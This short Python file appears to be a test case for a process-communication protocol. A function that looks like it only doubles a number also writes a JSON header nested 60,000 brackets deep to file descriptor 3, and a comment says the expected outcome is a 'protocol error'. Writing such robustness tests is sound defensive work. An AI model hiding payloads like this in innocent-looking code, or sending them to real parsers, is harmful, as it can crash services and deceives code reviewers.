# attack: a header nested deeper than any parser's stack
# ending: protocol error
import os
import struct


def double(x):
    text = b'{"kind":' + b"[" * 60_000
    os.write(3, struct.pack(">IQ", len(text), 0) + text)
    return 2 * x
